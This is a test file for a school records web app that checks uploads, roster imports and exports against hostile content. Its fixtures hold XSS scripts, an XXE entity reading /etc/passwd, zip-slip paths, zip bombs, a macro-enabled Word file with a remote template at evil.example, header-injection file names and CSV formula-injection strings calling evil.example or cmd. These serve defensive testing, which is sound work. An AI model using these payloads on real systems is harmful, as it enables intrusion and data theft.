import { createHash } from 'node:crypto';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { beforeAll, describe, expect, test } from 'vitest';
import { placesOf, type Things } from '../access/things.ts';
import { testApp } from '../support/app.ts';
import { testDatabase } from '../support/database.ts';
import { giveTitle, makePerson, makeRecord, makeUnit, makeWorld, type World } from '../support/world.ts';

/* Files that come in to harm, and files that go out to harm whoever opens them. */

const { db } = await testDatabase();
const kept = testApp(db);
let world: World;
let things: Things;

beforeAll(async () => {
  world = await makeWorld(db);
  things = await placesOf(db, world);
});

const zip = (files: Readonly<Record<string, string>>) =>
  zipSync(Object.fromEntries(Object.entries(files).map(([name, text]) => [name, strToU8(text)])));
const TYPES = (main: string) =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const PNG = new Uint8Array([
  0x89,
  0x50,
  0x4e,
  0x47,
  0x0d,
  0x0a,
  0x1a,
  0x0a,
  ...strToU8('<script>alert(1)</script>'),
]);
const word = (more: Readonly<Record<string, string>> = {}, main = DOCX) =>
  zip({ '[Content_Types].xml': TYPES(main), 'word/document.xml': '<w/>', ...more });

/** Puts a file into the growth file of the teacher as evidence; the id it is kept under, or null when refused. */
async function upload(
  content: Uint8Array,
  name: string,
  type: string,
): Promise<{ status: number; id: string | null; html: string }> {
  const browser = await kept.as(world.teacher);
  const known = new Set(await evidenceIds());
  const answer = await browser.post('/records/new', {
    type: 'honour',
    evidence: new File([new Uint8Array(content)], name, { type }),
  });
  const id = (await evidenceIds()).find((one) => !known.has(one)) ?? null;
  return { status: answer.status, id, html: await answer.text() };
}
const evidenceIds = async () => (await db.selectFrom('evidence').select('id').execute()).map(({ id }) => id);

describe('an upload', () => {
  const REFUSED: readonly (readonly [what: string, content: Uint8Array])[] = [
    [
      'a picture of vectors with a script',
      strToU8('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ],
    ['one that begins with a comment', strToU8('<!-- x --><svg onload="alert(1)"/>')],
    ['a web page', strToU8('<!doctype html><script>alert(1)</script>')],
    ['a web page behind a byte order mark', new Uint8Array([0xef, 0xbb, 0xbf, ...strToU8('<html>')])],
    ['a program', strToU8('MZ\u0000\u0000This program cannot be run in DOS mode')],
    ['a script for a shell', strToU8('#!/bin/sh\n')],
    ['an archive', zip({ 'a.txt': 'a' })],
    ['a Java archive', zip({ 'META-INF/MANIFEST.MF': '', '[Content_Types].xml': '' })],
    ['a Word file with macros', word({ 'word/vbaProject.bin': 'x' })],
    [
      'a Word file with macros under another name',
      word({ 'word/Vba.bin': 'x' }, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    ],
    [
      'a Word file whose template lies elsewhere',
      word({
        'word/_rels/settings.xml.rels':
          '<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
      }),
    ],
    ['a Word file with a program in it', word({ 'word/embeddings/oleObject1.bin': 'x' })],
    ['a Word file whose parts leave their folder', word({ '../../evil.txt': 'x' })],
    [
      'a Word file that unpacks to far more',
      zipSync({
        '[Content_Types].xml': strToU8(TYPES(DOCX)),
        'word/document.xml': new Uint8Array(64 * 1024 * 1024),
      }),
    ],
    ['an old Word file', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])],
  ];
  test.each(REFUSED)('is judged by its content: %s is refused, whatever it is called', async (_, content) => {
    for (const [name, type] of [
      ['证书.pdf', 'application/pdf'],
      ['照片.png', 'image/png'],
      ['a.docx', 'application/msword'],
    ] as const) {
      const { status, id, html } = await upload(content, name, type);
      expect([status, id]).toEqual([422, null]);
      expect(html).toContain(name);
    }
  });

  test('that is refused leaves no file', async () => {
    const bytes = strToU8('#!/bin/sh\nleft');
    await upload(bytes, '证书.pdf', 'application/pdf');
    expect(await kept.services.files.get(createHash('sha256').update(bytes).digest('hex'))).toBeNull();
  });

  test('that is two kinds at once is served as what it was judged to be, and runs nothing', async () => {
    const both: [Uint8Array, string, string, 'inline' | 'attachment'][] = [
      [
        strToU8('%PDF-1.7\n<html><script>alert(document.domain)</script>'),
        '成绩.html',
        'application/pdf',
        'attachment',
      ],
      [PNG, '照片.svg', 'image/png', 'inline'],
      [new Uint8Array([0xff, 0xd8, 0xff, 0xe0, ...strToU8('*/=alert(1)/*')]), 'a.js', 'image/jpeg', 'inline'],
      [
        word(),
        '总结.html',
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
        'attachment',
      ],
    ];
    for (const [content, name, type, manner] of both) {
      const { id } = await upload(content, name, 'text/html');
      expect(id, name).not.toBeNull();
      const answer = await (await kept.as(world.teacher)).get(`/evidence/${id}`);
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toBe(type);
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
      expect(answer.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
      expect(answer.headers.get('content-disposition')).toMatch(new RegExp(`^${manner};`));
      expect(answer.headers.get('x-frame-options')).toBe('DENY');
    }
  });

  test('has a name that is only a name: no folders, no line ends, no quotes, in the list and in the header', async () => {
    const names = [
      '../../../etc/passwd',
      '..\\..\\x.pdf',
      'a\r\nX-Injected: yes\r\n\r\n<p>.pdf',
      '"; filename="b.html',
      '\u202egnp.exe',
      'x.pdf\u0000.exe',
      `${'长'.repeat(400)}.pdf`,
    ];
    for (const name of names) {
      const { id, status } = await upload(strToU8(`%PDF-1.7 ${name}`), name, 'application/pdf');
      if (name.includes('\u0000')) {
        expect(status).toBe(422);
        continue;
      }
      const { headers } = await (await kept.as(world.teacher)).get(`/evidence/${id}`);
      expect(headers.get('x-injected')).toBeNull();
      const given = headers.get('content-disposition') ?? '';
      expect(given).toMatch(/^attachment; filename="evidence"; filename\*=UTF-8''[\w.%!'()*~-]+$/);
      const shown = decodeURIComponent(given.split("''")[1] ?? '');
      expect(shown).not.toMatch(/[/\\\r\n"\u202e]/);
      expect([...shown].length).toBeLessThanOrEqual(120);
    }
  });

  test('is at most what its kind allows, and a request at most 64 MB', async () => {
    const large = new Uint8Array(10 * 1024 * 1024 + 1);
    large.set(strToU8('%PDF-1.7'));
    expect((await upload(large, 'a.pdf', 'application/pdf')).status).toBe(422);
    const { cookie } = await kept.session(world.teacher);
    for (const [type, size] of [
      ['multipart/form-data; boundary=x', 65],
      ['application/x-www-form-urlencoded', 2],
    ] as const) {
      const body = new Uint8Array(size * 1024 * 1024);
      const answer = await kept.app.request('/records/new', {
        method: 'POST',
        body,
        headers: {
          cookie,
          'content-type': type,
          'sec-fetch-site': 'same-origin',
          'content-length': String(body.length),
        },
      });
      expect(answer.status).toBe(413);
    }
  });
});

describe('a table that is brought in', () => {
  const bring = async (content: Uint8Array, name: string) => {
    const browser = await kept.as(world.schoolOffice);
    const answer = await browser.post('/imports/new', {
      kind: 'roster',
      unit: world.school.id,
      file: new File([new Uint8Array(content)], name),
    });
    return { status: answer.status, html: await answer.text() };
  };
  const book = (more: Readonly<Record<string, string | Uint8Array>>) =>
    zipSync({
      '[Content_Types].xml': strToU8(TYPES('application/vnd.ms-excel.sheet.macroEnabled.main+xml')),
      '_rels/.rels': strToU8(
        '<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
      ),
      ...Object.fromEntries(
        Object.entries(more).map(([name, text]) => [name, typeof text === 'string' ? strToU8(text) : text]),
      ),
    });

  test('is taken when it is one', async () => {
    const { status } = await bring(strToU8('姓名,工号\n李雷,T1100\n'), '名册.csv');
    expect(status).toBe(303);
  });

  test.each([
    ['a bomb', book({ 'xl/workbook.xml': new Uint8Array(600 * 1024 * 1024) })],
    [
      'parts that leave their folder',
      book({
        'xl/workbook.xml': '<workbook><sheets><sheet name="a" sheetId="1"/></sheets></workbook>',
        '../../evil.csv': 'a',
      }),
    ],
    [
      'entities of its own',
      book({
        'xl/workbook.xml': '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><workbook>&x;</workbook>',
      }),
    ],
    ['a web page called a workbook', strToU8('<html><table><tr><td>姓名</td></tr></table>')],
  ])('with %s is refused in words and never unpacked', async (_, content) => {
    const before = process.memoryUsage().rss;
    const { status, html } = await bring(content, '名册.xlsx');
    expect(status).toBe(422);
    expect(html).not.toContain('root:');
    expect(process.memoryUsage().rss - before).toBeLessThan(300 * 1024 * 1024);
  });
});

describe('what goes out', () => {
  const FORMULAS = [
    '=HYPERLINK("http://evil.example","x")',
    '+1+cmd|x',
    '-1+1',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '＝1+1',
  ];

  test('as CSV or a workbook holds no formula of anybody', async () => {
    for (const [at, formula] of FORMULAS.entries()) {
      const id = await makePerson(db, world.school, formula, {
        staffNumber: `${formula}${at}`,
        subject: formula,
      });
      await makeRecord(db, id, 'honour', { title: formula, event: formula });
      await makeRecord(db, world.teacher, 'honour', { title: formula, event: formula });
      await giveTitle(db, id, 'backbone', '[2024-01-01,)');
      await makeUnit(db, world.county, 'school', formula, { code: `x${at}` });
    }
    const office = await kept.as(world.administrator);
    const city = await kept.as(world.cityOffice);
    const teacher = await kept.as(world.teacher);
    const answers = {
      people: await city.get('/people?format=csv'),
      titles: await city.get('/titles?format=csv'),
      records: await teacher.get('/records?format=csv'),
      own: await teacher.get(`/people/${world.teacher}/records?format=csv`),
      audit: await office.get('/audit?format=csv'),
    };
    const found: string[] = [];
    const counted: string[] = [];
    for (const [what, answer] of Object.entries(answers)) {
      if (answer.headers.get('content-type')?.startsWith('text/csv') !== true) continue;
      counted.push(what);
      found.push(...formulasIn(what, await answer.text()));
    }
    const bundle = unzipSync(
      new Uint8Array(await (await office.get('/imports/oneroster.zip')).arrayBuffer()),
    );
    for (const [name, bytes] of Object.entries(bundle)) found.push(...formulasIn(name, strFromU8(bytes)));
    expect(counted).toEqual(expect.arrayContaining(['people', 'titles', 'audit']));
    const books = [
      await city.get('/people?format=xlsx'),
      await city.get('/titles?format=xlsx'),
      await teacher.get(`/people/${world.teacher}/records?format=xlsx`),
    ];
    for (const answer of books) {
      if (answer.headers.get('content-type')?.includes('spreadsheetml') !== true) continue;
      counted.push('a workbook');
      for (const [name, bytes] of Object.entries(unzipSync(new Uint8Array(await answer.arrayBuffer()))))
        if (/<f[\s>]|<hyperlink|externalLink|vbaProject/.test(strFromU8(bytes)) || /vba|external/i.test(name))
          found.push(`${name} of a workbook`);
    }
    expect(found).toEqual([]);
    expect(counted.filter((one) => one === 'a workbook').length).toBeGreaterThanOrEqual(2);
  }, 300_000);

  /** Cells of a CSV text that a spreadsheet program would run. */
  function formulasIn(what: string, csv: string): string[] {
    const cells = csv.replace(/^\ufeff/, '').matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g);
    return [...cells]
      .map(([, quoted, bare]) => quoted ?? bare ?? '')
      .filter((cell) => /^[=+\-@\t\r＝]/.test(cell) && !/^[+-]\d+(\.\d+)?$/.test(cell))
      .map((cell) => `${what}: ${cell}`);
  }

  test('has a name of ours in its header, whatever a round or a person is called', async () => {
    const evil = 'a"\r\nX-Injected: yes; filename="b.html';
    await db
      .updateTable('round')
      .set({ name: evil })
      .where('id', '=', things.round ?? '')
      .execute();
    await db.updateTable('person').set({ name: evil }).where('id', '=', world.teacher).execute();
    const city = await kept.as(world.cityOffice);
    const teacher = await kept.as(world.teacher);
    const files = [
      await city.get(`/rounds/${things.round}/papers/named-list.pdf`),
      await city.get(`/rounds/${things.round}/papers/named-list.xlsx`),
      await teacher.get(`/applications/${things.application}/form.pdf`),
      await teacher.get(`/people/${world.teacher}/records?format=csv`),
      await city.get('/people?format=csv'),
    ].filter(({ headers }) => headers.has('content-disposition'));
    expect(files.length).toBeGreaterThanOrEqual(2);
    for (const { headers } of files) {
      expect(headers.get('x-injected')).toBeNull();
      expect(headers.get('content-disposition')).toMatch(
        /^(?:attachment|inline); filename="[\w.-]+"(?:; filename\*=UTF-8''[\w.%!'()*~-]+)?$/,
      );
    }
  }, 300_000);
});
